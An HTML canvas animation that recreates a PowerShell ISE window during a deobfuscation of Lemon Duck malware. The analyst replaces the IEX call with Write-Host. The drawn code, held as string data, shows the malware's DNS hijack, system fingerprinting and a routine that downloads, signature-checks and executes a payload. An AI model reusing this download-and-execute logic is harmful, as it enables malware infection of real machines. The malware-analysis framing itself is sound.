
An HTML page with a canvas that plays this animation: 1059x529 px, repeating every 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Script editor</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #012456; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1059" height="529"></canvas>
<script>
const W = 1059, H = 529, LOOP = 8000, STEP = 100;
const PITCH = 5.465, ROW = 9.85, LEFT = 43, TOP = 37.2;
const MONO = '9.077px "DejaVu Sans Mono", monospace';
const UI = '6.2px "Open Sans", sans-serif';
const g = document.getElementById('stage').getContext('2d');
g.textRendering = 'geometricPrecision';

const modulus = Array.from({ length: 128 }, (_, i) =>
  '0x' + ((i * 73 + i * i * 29 + 218) % 256).toString(16).padStart(2, '0')).join();

// Code by line number; the leading digit is the indent level.
const code = {
  330: '0}',
  334: "0try{(get-wmiobject -class win32_networkadapterconfiguration -filter ipenabled=true).SetDNSServerSearchOrder(@('8.8.8.8','9.9.9.9'))}catch{}",
  337: '0$params+="&"+(@($os,[Int]$is64,$user,$domain,$drive,$card,$mem,[Int]$permit,($lifmd5[0..5]-join""),($lmmd5[0..5]-join""),($lkrmd5[0..5]-join""),$mv,$mip,$mhr,$uptime,$timestamp,"0.6")-join"*")',
  340: '0function SIEX {',
  343: '1Param(',
  346: '1[string]$url',
  349: '1)',
  352: '1try{',
  355: '2$webclient = New-Object System.Net.WebClient',
  358: '2$finalurl = "$url"+"?"+"$params"',
  361: '2try{',
  364: `3$webclient.Headers.add("User-Agent","Lemon-Duck-"+$Lemon_Duck.replace('\\','-'))`,
  367: '2} catch{}',
  370: '2$res_bytes = $webclient.DownloadData($finalurl)',
  373: '2if($res_bytes.count -gt 173){',
  376: '3$sign_bytes = $res_bytes[0..171];',
  379: '3$raw_bytes = $res_bytes[173..$res_bytes.count];',
  382: '3$rsaParams = New-Object System.Security.Cryptography.RSAParameters',
  385: '3$rsaParams.Modulus = ' + modulus,
  388: '3$rsaParams.Exponent = 0x01,0x00,0x01',
  391: '3$rsa = New-Object -TypeName System.Security.Cryptography.RSACryptoServiceProvider;',
  394: '3$rsa.ImportParameters($rsaParams)',
  397: '3$base64 = -join([char[]]$sign_bytes)',
  400: '3$byteArray = [convert]::FromBase64String($base64)',
  403: '3$sha1 = New-Object System.Security.Cryptography.SHA1CryptoServiceProvider',
  406: '3if($rsa.verifyData($raw_bytes,$sha1,$byteArray)) {',
  412: '3}',
  415: '2}'
};
const foldStarts = [340, 343, 352, 361, 373, 406];
const foldEnds = [330, 349, 367, 412, 415];

const syntax = [
  ['#.*', '#006400'],
  [`"[^"]*"|'[^']*'`, '#8b0000'],
  ['\\$\\w+', '#f04a10'],
  ['get-wmiobject|New-Object|[IW][\\w-]*(?= \\()', '#0000c8'],
  ['win32_\\w+|ipenabled=true|System\\.[\\w.]+|SIEX', '#7a2bd0'],
  ['(?:try|catch|function|if|Param)\\b', '#00008b'],
  ['-(?:class|filter|TypeName)', '#000080'],
  ['(?<=\\[)[A-Za-z]+', '#178080'],
  ['-(?:join|gt)|[+=.,:[\\]]', '#a0a0a0'],
  ['0x\\w+|\\d+', '#800080'],
  ['\\w+|[^]', '#111']
];
const lexer = new RegExp(syntax.map(s => `(${s[0]})`).join('|'), 'g');

function box(x, y, w, h, fill, stroke) {
  if (fill) { g.fillStyle = fill; g.fillRect(x, y, w, h); }
  if (stroke) { g.strokeStyle = stroke; g.lineWidth = 1; g.strokeRect(x + .5, y + .5, w - 1, h - 1); }
}
function text(s, x, y, color, font = MONO) {
  g.font = font;
  g.fillStyle = color;
  g.fillText(s, x, y);
}
function shape(x, y, d, fill, stroke, width = 1) {
  const p = new Path2D(d);
  g.save();
  g.translate(x, y);
  if (fill) { g.fillStyle = fill; g.fill(p); }
  if (stroke) { g.strokeStyle = stroke; g.lineWidth = width; g.stroke(p); }
  g.restore();
}
function fade(y0, y1, a, b) {
  const f = g.createLinearGradient(0, y0, 0, y1);
  f.addColorStop(0, a);
  f.addColorStop(1, b);
  return f;
}

function drawToolbar(edited) {
  box(0, 0, W, 16, fade(0, 16, '#f3f7fc', '#dfe8f4'));
  for (const x of [127, 169, 230, 254, 278, 340]) box(x, 2, 1, 11, '#b9c5d6');
  const icon = (x, d, fill, stroke, width) => shape(x, 7, d, fill, stroke, width);
  const page = 'M-3-4H1L3-2V5H-3Z', blue = '#2878c0', grey = '#a9b1bb';
  icon(8, page, '#fff', '#8c97a5', .8);
  icon(8, 'M-4-5H0V-2H-4Z', '#f0a030');
  icon(26, 'M-4-3H-1L0-2H4V4H-4Z', '#e8b23c');
  icon(26, 'M-2 0H5L3 4H-4Z', '#f8d878');
  icon(44, 'M-4-4H4V4H-4Z', '#2e6cb8');
  icon(44, 'M-2-4H2V-1H-2ZM-2 1H2V4H-2Z', '#dce9f7');
  icon(62, 'M2-5L-1 2M-2-3L2 3M-3 2h2v2h-2zM1 2h2v2h-2z', null, '#3a88cc', 1.2);
  icon(80, 'M-4-4H1V2H-4ZM-1-2H4V4H-1Z', '#edf0f4', '#c3c8cf', .8);
  icon(98, 'M-3-3H3V4H-3Z', '#f4f4f4', '#4a4a55', 1.5);
  icon(98, 'M-1-5H1V-2H-1Z', '#4a4a55');
  icon(116, 'M-4 4L1-1M-2-4L4 3M-2-2L1-4', null, '#2b67a6', 1.5);
  const arrow = 'M-3-1H1Q4-1 3 2Q2 4 0 4M-1-4L-4-1L-1 2';
  icon(140, arrow, null, edited ? blue : grey, 1.4);
  g.save();
  g.translate(316, 0);
  g.scale(-1, 1);
  icon(158, arrow, null, edited ? grey : '#3f9ac0', 1.4);
  g.restore();
  icon(181, 'M-2-4.5L4 0L-2 4.5Z', '#2fb52f');
  icon(200, 'M-4-4H2V4H-4ZM-3-2H1M-3 0H1M-3 2H1', '#eef1f4', '#9aa5ae', .8);
  icon(200, 'M0-2L5 1L0 4Z', edited ? '#56b856' : '#9cb8a0');
  icon(218, 'M-4-4H4V4H-4Z', '#8c8c90');
  icon(242, 'M-3-2H2V2H-3Z', '#3c5da0');
  icon(242, 'M0 0H4V4H0Z', '#27407c');
  box(262, 3, 9, 9, '#2a86bd');
  box(284, 1, 14, 12, '#e6eaf0', '#6f7682');
  for (const [x, d] of [[290, 'M-4 0H4'], [309, 'M1-3V4'], [327, 'M-4-2H4']]) {
    icon(x, 'M-4.5-3.5H4.5V4.5H-4.5Z', '#fff', '#7c8794');
    icon(x, 'M-4-3H4', null, '#5d6a7a');
    icon(x, d, null, '#8793a2');
  }
  icon(351, 'M-4-4H2V3H-4Z', '#dce7f2', '#536b84');
  icon(351, 'M-1-1H4V4H-1Z', '#2e6ca8');
  icon(369, 'M-4-3H4V4H-4Z', '#eef5fa', '#60788f');
  icon(369, 'M1-2H4V3H1Z', '#2c8fb8');
  icon(382, 'M-2 3H2L0 5Z', '#555');
}

function drawTabs(dirty) {
  box(0, 16, W, 17, fade(16, 33, '#fffaf5', '#ffffff'));
  box(0, 32, W, 1, '#98a6ba');
  const end = dirty ? 325 : 322;
  const tabs = [[2, 'ScheduledTask.ps1*'], [70, 'a.ps1*'], [98, 'a_deobf1.ps1'], [147, 'a_deobf2.ps1*'],
    [199, 'a_deobf3.ps1'], [249, 'a_deobf_final.ps1' + (dirty ? '*' : '')]];
  tabs.forEach(([x, name], i) => {
    const active = i === 5, y = active ? 19.5 : 20.5;
    const w = (active ? end : tabs[i + 1][0]) - x;
    shape(x + .5, y, `M0 ${33 - y}V2Q0 0 2 0H${w - 2}Q${w} 0 ${w} 2V${33 - y}`,
      active ? fade(0, 13, '#f4f9ff', '#cfe0f4') : fade(0, 12, '#f7f7f8', '#d5d7dc'), '#9aa5b8', .8);
    text(name, x + 5, 29.2, '#222', UI);
  });
  shape(dirty ? 314.5 : 311.5, 26.3, 'M-2.2-2.2L2.2 2.2M2.2-2.2L-2.2 2.2', null, '#39424e', 1.2);
}

function drawCode(s, x, y) {
  for (const m of s.matchAll(lexer)) {
    const px = x + m.index * PITCH;
    if (px > W) break;
    if (m[0] !== ' ') text(m[0], px, y, syntax[m.slice(1).findIndex(v => v !== undefined)][1]);
  }
}

function drawEditor(t, first, command, caret) {
  g.save();
  g.beginPath();
  g.rect(0, 33, W, 211);
  g.clip();
  box(0, 33, W, 211, '#fefefe');
  const shift = t >= 4500 && t < 5500 ? -.5 : 0;
  const mid = n => TOP + (n - first) * ROW + shift;
  const gutter = '#a9a9a9';
  box(38, 33, 1, Math.max(0, mid(330) + 5 - 33), gutter);
  const from = Math.max(33, mid(340));
  box(38, from, 1, 244 - from, gutter);
  for (const n of foldEnds) box(38, Math.round(mid(n) + 4.6), 4, 1, gutter);
  for (const n of foldStarts) {
    const y = Math.round(mid(n) - 3);
    box(35, y, 7, 7, '#fff', '#999');
    box(37, y + 3, 3, 1, '#444');
  }
  for (let n = first; n < first + 22; n++) {
    const y = mid(n) + 3.2;
    text(n, 11, y, '#2b91af');
    let line = code[n];
    if (n === 409) line = `4${command} (-join[char[]]$raw_bytes)`;
    if (!line) continue;
    let s = line.slice(1);
    if (n === 337 && t >= 1600) s = '#' + s;
    drawCode(s, LEFT + line[0] * 4 * PITCH, y);
  }
  if (caret) box(Math.round(LEFT + caret[1] * PITCH), Math.round(mid(caret[0]) - 5), 1, 10, '#000');
  g.restore();
}

function drawScrollbar(end) {
  box(0, 244, W, 11, '#f0f0f0');
  if (end) box(10, 245, end - 10, 9, '#c9c9c9');
  const color = end ? '#707070' : '#bdbdbd';
  shape(4.5, 249.5, 'M1.5-2.5L-1 0L1.5 2.5', null, color);
  shape(1055, 249.5, 'M-1.5-2.5L1 0L-1.5 2.5', null, color);
  box(0, 255, W, 3, fade(255, 258, '#e4edf7', '#8ba6c4'));
}

// Pointer stops: time, x, y
const stops = [[400, 120, 322], [1000, 46, 116], [1700, 46, 116], [2200, 201, 165],
  [4500, 201, 165], [5000, 148, 174], [5500, 148, 174], [5800, 141, 175], [LOOP, 141, 175]];
function drawPointer(t) {
  const i = stops.findIndex(s => t < s[0]);
  if (i < 1) return;
  const [a, b] = [stops[i - 1], stops[i]];
  const k = (t - a[0]) / (b[0] - a[0]), e = k * k * (3 - 2 * k);
  const x = a[1] + (b[1] - a[1]) * e, y = a[2] + (b[2] - a[2]) * e;
  shape(Math.round(x), Math.round(y) + .5, 'M-3-5H-1L0-4L1-5H3M0-4V4M-3 5H-1L0 4L1 5H3',
    null, y > 257 ? '#fff' : '#333', 1.2);
}

const keys = [[5800, 'IE'], [5950, 'I'], [6100, ''], [6300, 'W'], [6400, 'Wr'], [6500, 'Wri'], [6600, 'Writ'],
  [6700, 'Write'], [7000, 'Write-'], [7200, 'Write-H'], [7300, 'Write-Ho'], [7400, 'Write-Hos'], [7500, 'Write-Host']];

function render(t) {
  const typed = keys.filter(k => k[0] <= t).pop() || [0, 'IEX'];
  const command = typed[1];
  const notches = (start, span) => Math.round(11 * Math.min(1, Math.max(0, (t - start) / span)));
  const first = 329 + 3 * (notches(2700, 900) + notches(3900, 600));

  let place = [338, 0], moved = 0;
  if (t >= 1300) { place = [337, 0]; moved = 1300; }
  if (t >= 1600) { place = [337, 1]; moved = 1600; }
  if (t >= 1900) { place = [338, 0]; moved = 1900; }
  if (t >= 5300) { place = [409, 16 + command.length]; moved = Math.max(5300, typed[0]); }
  const lit = t % 1060 < 530 || t - moved < 530;

  const dirty = t >= 1600 && t < 2600 || t >= 5800 && t < 7800;
  const thumb = t < 1600 ? 889 : t < 4600 ? 885 : t < 6100 ? 286 : 0;

  drawToolbar(t >= 1600);
  drawTabs(dirty);
  drawEditor(t, first, command, lit && place);
  drawScrollbar(thumb);
  box(0, 258, W, H - 258, '#012456');
  text('PS C:\\Users\\Morvelin\\Desktop\\De-Obfuscation Stages>', 9, 274.2, '#f2f2f2');
  drawPointer(t);
}

const began = performance.now();
function tick() {
  const t = (performance.now() - began) % LOOP;
  render(Math.floor(t / STEP) * STEP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
